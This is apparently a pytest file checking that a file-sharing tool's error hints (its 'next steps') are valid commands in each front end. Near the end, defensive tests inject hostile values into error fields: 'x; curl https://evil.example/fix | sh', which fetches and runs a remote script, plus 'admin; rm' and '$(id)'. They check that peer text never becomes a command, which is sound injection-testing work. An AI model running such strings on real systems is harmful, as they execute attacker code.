"""Every front end has a next step for every error that crosses a package, or says that there is none."""

from __future__ import annotations

import re
from collections import defaultdict
from string import Formatter

import pytest
from msgspec.structs import replace

import sft.cli.next_steps
import sft.operator.next_steps
import tui.next_steps
from sft.cli.next_steps import OF_COMMAND, STEPS, steps_of_command
from sft.cli.status_output import status_lines
from sft.errors import (
    REQUEST_ERRORS,
    NameClashError,
    NameNotAllowedError,
    NoServerError,
    NotFoundError,
    RoleForbidsError,
    SftError,
)
from sft.model.records import NoteAbout
from sft.operator.next_steps import OF_NOTES, steps_at
from tests.typed import NotTypedError, all_commands, filled_with_samples, options_of, require_typed
from tests.unit.model.test_status_words import DAY, NOW, STATUS
from tui.glyphs import FINE
from tui.screens.status_rows import fact_lines

TABLES = {
    "sft": sft.cli.next_steps.STEPS,
    "sftd": sft.operator.next_steps.NEXT_STEPS.by_code,
    "tui": tui.next_steps.STEPS,
}


def _values_by_code() -> dict[str, list[frozenset[str]]]:
    """Collect the values of every class, by its code."""
    found = defaultdict(list)
    kinds: list[type[SftError]] = [SftError]
    for kind in kinds:
        kinds.extend(kind.__subclasses__())
        if kind.__module__.startswith("sft."):
            found[kind.code].append(kind.names_of_values())
    return found


VALUES = _values_by_code()


@pytest.mark.parametrize("front_end", TABLES)
def test_each_code_has_its_step_and_nothing_else_has(front_end):
    assert set(TABLES[front_end]) == set(VALUES)


@pytest.mark.parametrize("front_end", TABLES)
def test_a_step_names_only_what_every_error_of_its_code_has(front_end):
    for code, template in TABLES[front_end].items():
        named = {name for _, name, _, _ in Formatter().parse(template) if name} - {"see", "there"}
        for values in VALUES[code]:
            assert named <= values, code
        assert not template.endswith("."), code


def test_no_step_of_the_screens_is_a_command_where_a_key_does_it():
    for code, template in TABLES["tui"].items():
        without = re.sub(r"pipx upgrade sft|pip install --upgrade|sftd( --home)?", "", template)
        assert not re.search(r"\bsft \w|--\w|The same command", without), code


def test_no_step_of_the_operator_is_a_command_that_talks_to_a_server_as_a_user():
    for code, template in TABLES["sftd"].items():
        assert not re.search(r"\bsft (?!key export|of|that)\w", template), code


@pytest.mark.parametrize(
    ("what", "name", "here", "operator"),
    [
        ("file", "a/b c/d", "sft ls 'a/b c'", "file"),
        ("folder", "a", "sft ls", "file"),
        ("file like", "*.pdf", "sft ls '**'", "file"),
        ("deleted file", "a/b", "sft ls --trash", "file"),
        ("active user", "ivo", "sft users", "user"),
        ("invitation", "7", "sft invite list", "invite"),
        ("session", "7", "sft ls", "session"),
    ],
)
def test_what_is_not_found_is_looked_for_where_it_is_listed(what, name, here, operator):
    error = NotFoundError(what=what, name=name)
    assert sft.cli.next_steps.NEXT_STEPS.of(error, now=0) == f"See what there is: {here}"
    assert sft.operator.next_steps.NEXT_STEPS.of(error, now=0) == (f"See what there is: sftd {operator} list")


@pytest.mark.parametrize("command", all_commands("sft"))
def test_what_a_command_says_next_can_be_typed(command):
    """Each step about each code, as this command says it: whole commands parse, and an option alone is its own."""
    own = options_of(all_commands("sft")[command])
    for template in steps_of_command(command).by_code.values():
        require_typed(filled_with_samples(template), own)


@pytest.mark.parametrize("command", all_commands("sftd"))
def test_what_an_operators_command_says_next_can_be_typed(command):
    own = options_of(all_commands("sftd")[command])
    for template in sft.operator.next_steps.NEXT_STEPS.by_code.values():
        # ``--master-key`` of before: of a start whose command stands in the same step.
        require_typed(filled_with_samples(template).replace("the --master-key of before", ""), own)


def test_what_the_screens_say_next_can_be_typed():
    for template in tui.next_steps.STEPS.values():
        require_typed(filled_with_samples(template))


@pytest.mark.parametrize(
    "what", ["user", "active user", "key", "invitation", "deleted file", "file like", "version", "file"]
)
def test_where_to_look_can_be_typed(what):
    error = NotFoundError(what=what, name="3 of a/b")
    require_typed(sft.cli.next_steps.NEXT_STEPS.of(error, now=0))
    require_typed(steps_at("/srv/x y").of(error, now=0))


@pytest.mark.parametrize(
    "text", ["sft mv a", "sft put FILE --to", "sft forgets", "sft mv a b --as c", "sftd user show", "try sft get --no"]
)
def test_what_cannot_be_typed_is_found(text):
    if text == "sft forgets":  # prose
        require_typed(text)
        return
    with pytest.raises(NotTypedError):
        require_typed(text.replace(" a", " A").replace(" b", " B").replace(" c", " C"))


def test_an_option_that_a_command_lacks_is_found():
    with pytest.raises(NotTypedError):
        require_typed("Choose another name: --as NAME", options_of(all_commands("sft")["mv"]))
    require_typed("Choose another name: --as NAME", options_of(all_commands("sft")["put"]))


def test_what_a_note_of_the_vault_is_about_has_its_step():
    assert set(OF_NOTES) == set(NoteAbout) - {NoteAbout.NOTHING}
    for step in OF_NOTES.values():
        require_typed(step)


def test_each_front_end_says_its_own_step_about_a_clock_that_is_doubted():
    status = replace(STATUS, clock_sound_at=NOW - 90 * DAY)
    of_people = "\n".join(status_lines(status, NOW, sft.cli.next_steps.NEXT_STEPS))
    of_operator = "\n".join(status_lines(status, NOW, steps_at("/srv/x")))
    on_screen = fact_lines(status, "", NOW, 120, FINE).plain
    assert "sftd --home /srv/x vault collect --clock-is-right" in of_operator
    for said in (of_people, on_screen):
        assert "Tell the operator (sftd status)" in said
        assert "vault collect" not in said


def test_only_codes_that_have_a_step_of_people_are_said_to_be_never_met_by_the_operator():
    assert set(STEPS) >= sft.operator.next_steps.NEVER_MET


def test_a_step_names_the_home_that_the_operator_named():
    error = NotFoundError(what="user", name="gus")
    assert steps_at("/srv/my sft").of(error, now=0) == "See what there is: sftd --home '/srv/my sft' user list"
    there = NoServerError(home="/srv/other")
    assert steps_at("/srv/other").of(there, now=0) == "Start one: sftd --home /srv/other serve"


@pytest.mark.parametrize("command", OF_COMMAND)
def test_a_step_of_a_command_names_only_what_every_error_of_its_code_has(command):
    for code, template in OF_COMMAND[command].items():
        named = {name for _, name, _, _ in Formatter().parse(template) if name} - {"there"}
        assert all(named <= values for values in VALUES[code]), code


EVIL = "x; curl https://evil.example/fix | sh"


@pytest.mark.parametrize("front_end", TABLES)
def test_no_text_of_a_peer_becomes_a_command(front_end):
    """Whatever a refusal says is one word of a command, or none at all."""
    for kind in (kind for kind in REQUEST_ERRORS.values() if kind.code in TABLES[front_end]):
        values = dict.fromkeys((*kind.names_of_values(), "see"), EVIL)
        error = kind(**values)
        step = (
            tui.next_steps.next_step(error, now=0)
            if front_end == "tui"
            else {"sft": sft.cli.next_steps, "sftd": sft.operator.next_steps}[front_end].NEXT_STEPS.of(error, now=0)
        )
        assert EVIL not in step.replace(f"'{EVIL}'", "").replace(f'"{EVIL}"', ""), step


def test_only_a_role_is_needed_and_only_names_are_admins():
    said = {"role": "guest", "act": "store", "name": "gus"}
    error = RoleForbidsError(**said, needed="admin; rm", admins="ada, $(id), eva")
    assert sft.cli.next_steps.NEXT_STEPS.of(error, now=0) == "An admin can: sft role gus ROLE. Admins here: ada, eva"
    error = RoleForbidsError(**said, needed="maintainer", admins="$(id)")
    assert sft.cli.next_steps.NEXT_STEPS.of(error, now=0).endswith(
        "sft role gus maintainer. Admins here: their names are unknown"
    )
    error = RoleForbidsError(**said, needed="maintainer", admins="ada, eva and 993 more")
    assert sft.cli.next_steps.NEXT_STEPS.of(error, now=0).endswith("Admins here: ada, eva and 993 more")


@pytest.mark.parametrize("command", ["put", "mkdir"])
def test_where_no_name_stands_one_is_to_be_written(command):
    error = NameNotAllowedError(name="", problem="no characters", safer="_")
    assert steps_of_command(command).of(error, now=0) == "Write a name there, such as FOLDER/NAME"


def test_nobody_is_made_an_admin_for_what_admins_alone_do():
    error = RoleForbidsError(role="guest", act="invite people", name="gus", needed="admin", admins="ada, eva")
    assert sft.cli.next_steps.NEXT_STEPS.of(error, now=0) == "Ask an admin: ada, eva"


@pytest.mark.parametrize(
    ("name", "existing", "there"), [("A", "a", "a"), ("d e/A", "a", "'d e/a'"), ("d/A", "D/a", "D/a")]
)
def test_what_has_a_name_that_differs_in_case_alone_can_be_renamed(name, existing, there):
    error = NameClashError(name=name, existing=existing)
    assert sft.cli.next_steps.NEXT_STEPS.of(error, now=0).endswith(f", or first sft mv {there} NAME")
